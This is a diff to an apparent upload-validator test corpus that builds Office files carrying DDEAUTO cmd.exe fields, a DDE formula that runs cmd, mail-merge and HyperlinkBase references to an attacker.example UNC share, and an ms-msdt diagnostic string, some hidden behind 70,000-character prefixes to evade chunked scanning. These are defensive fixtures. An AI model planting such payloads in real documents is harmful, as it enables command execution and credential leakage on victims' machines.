@@ -150,7 +150,7 @@ import {
   updateWithGenerations,
   utf16Hex,
 } from '../../fixtures/active-pdf.ts';
-import { buildZip, docxEntries, MiB, windowsExecutable } from '../../fixtures/files.ts';
+import { buildZip, docxEntries, MiB, windowsExecutable, xlsxEntries } from '../../fixtures/files.ts';
 import type { CorpusItem } from './corpus-item.ts';
 
 /**
@@ -4316,15 +4316,33 @@ function prefixedOfficeItems(): CorpusItem[] {
   const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
   const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
   const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
+  /** The part stored, not deflated, so it reaches the checks in the upload's 64 KiB pieces. */
   const documentUnder = (p: string, runs: string) =>
-    office('docx', {
-      'word/document.xml': `${XML_DECLARATION}<${p}:document xmlns:${p}="${W}"><${p}:body><${p}:p>${runs}</${p}:p></${p}:body></${p}:document>`,
-    });
+    buildZip(
+      docxEntries().map((e) =>
+        e.name === 'word/document.xml'
+          ? {
+              ...e,
+              compress: false,
+              data: `${XML_DECLARATION}<${p}:document xmlns:${p}="${W}"><${p}:body><${p}:p>${runs}</${p}:p></${p}:body></${p}:document>`,
+            }
+          : e,
+      ),
+    );
   const sheetUnder = (p: string, formula: string) =>
-    office('xlsx', {
-      'xl/worksheets/sheet1.xml': `${XML_DECLARATION}<${p}:worksheet xmlns:${p}="${S}"><${p}:sheetData><${p}:row r="1"><${p}:c r="A1"><${p}:f>${formula}</${p}:f><${p}:v>0</${p}:v></${p}:c></${p}:row></${p}:sheetData></${p}:worksheet>`,
-    });
+    buildZip(
+      xlsxEntries().map((e) =>
+        e.name === 'xl/worksheets/sheet1.xml'
+          ? {
+              ...e,
+              compress: false,
+              data: `${XML_DECLARATION}<${p}:worksheet xmlns:${p}="${S}"><${p}:sheetData><${p}:row r="1"><${p}:c r="A1"><${p}:f>${formula}</${p}:f><${p}:v>0</${p}:v></${p}:c></${p}:row></${p}:sheetData></${p}:worksheet>`,
+            }
+          : e,
+      ),
+    );
   const dde = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ';
+  const LONG_PREFIX = 'p'.repeat(70_000);
   const field = (p: string) =>
     `<${p}:r><${p}:fldChar ${p}:fldCharType="begin"/></${p}:r><${p}:r><${p}:instrText xml:space="preserve">${dde}</${p}:instrText></${p}:r><${p}:r><${p}:fldChar ${p}:fldCharType="end"/></${p}:r>`;
   return [
@@ -4368,6 +4386,57 @@ function prefixedOfficeItems(): CorpusItem[] {
       () =>
         office('docx', {
           'word/settings.xml': `${XML_DECLARATION}<设:settings xmlns:设="${W}"><设:mailMerge><设:mainDocumentType 设:val="formLetters"/><设:linkToQuery/><设:dataType 设:val="native"/><设:connectString 设:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\s\\d.xlsx"/><设:query 设:val="SELECT * FROM x"/></设:mailMerge></设:settings>`,
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    // A prefix longer than the text stream's 64 KiB window: in small pieces the tag reached the
+    // checks cut, the first piece all prefix, so no check saw its local name (VALID; see
+    // ../validation/ooxml/prefixes.test.ts). In the upload's 64 KiB pieces it was refused already.
+    item(
+      'docx-ddeauto-prefix-past-window',
+      'DDE',
+      () => documentUnder(LONG_PREFIX, field(LONG_PREFIX)),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'xlsx-dde-formula-prefix-past-window',
+      'DDE',
+      () => sheetUnder(LONG_PREFIX, "cmd|' /c calc'!A0"),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-hyperlink-base-share-chinese-prefix',
+      'OOXML external',
+      () =>
+        office('docx', {
+          '[Content_Types].xml': contentTypes(
+            'docx',
+            '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>',
+          ),
+          '_rels/.rels': rels(
+            rel('rId1', 'officeDocument', 'word/document.xml'),
+            rel('rId2', 'extended-properties', 'docProps/app.xml'),
+          ),
+          'docProps/app.xml': `${XML_DECLARATION}<属:Properties xmlns:属="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><属:HyperlinkBase>\\\\attacker.example\\share\\</属:HyperlinkBase></属:Properties>`,
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picking-program-string-chinese-prefix',
+      'OOXML external',
+      () =>
+        office('xlsx', {
+          '[Content_Types].xml': contentTypes(
+            'xlsx',
+            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>',
+          ),
+          'xl/_rels/workbook.xml.rels': rels(
+            rel('rId1', 'worksheet', 'worksheets/sheet1.xml'),
+            rel('rId2', 'styles', 'styles.xml'),
+            rel('rId3', 'sharedStrings', 'sharedStrings.xml'),
+          ),
+          'xl/worksheets/sheet1.xml': `${XML_DECLARATION}<表:worksheet xmlns:表="${S}"><表:sheetData><表:row r="1"><表:c r="A1"><表:f>HYPERLINK(B1)</表:f></表:c><表:c r="B1" t="s"><表:v>0</表:v></表:c></表:row></表:sheetData></表:worksheet>`,
+          'xl/sharedStrings.xml': `${XML_DECLARATION}<表:sst xmlns:表="${S}" count="1" uniqueCount="1"><表:si><表:t>ms-msdt:/id PCWDiagnostic /skip force</表:t></表:si></表:sst>`,
         }),
       'OOXML_EXTERNAL',
     ),
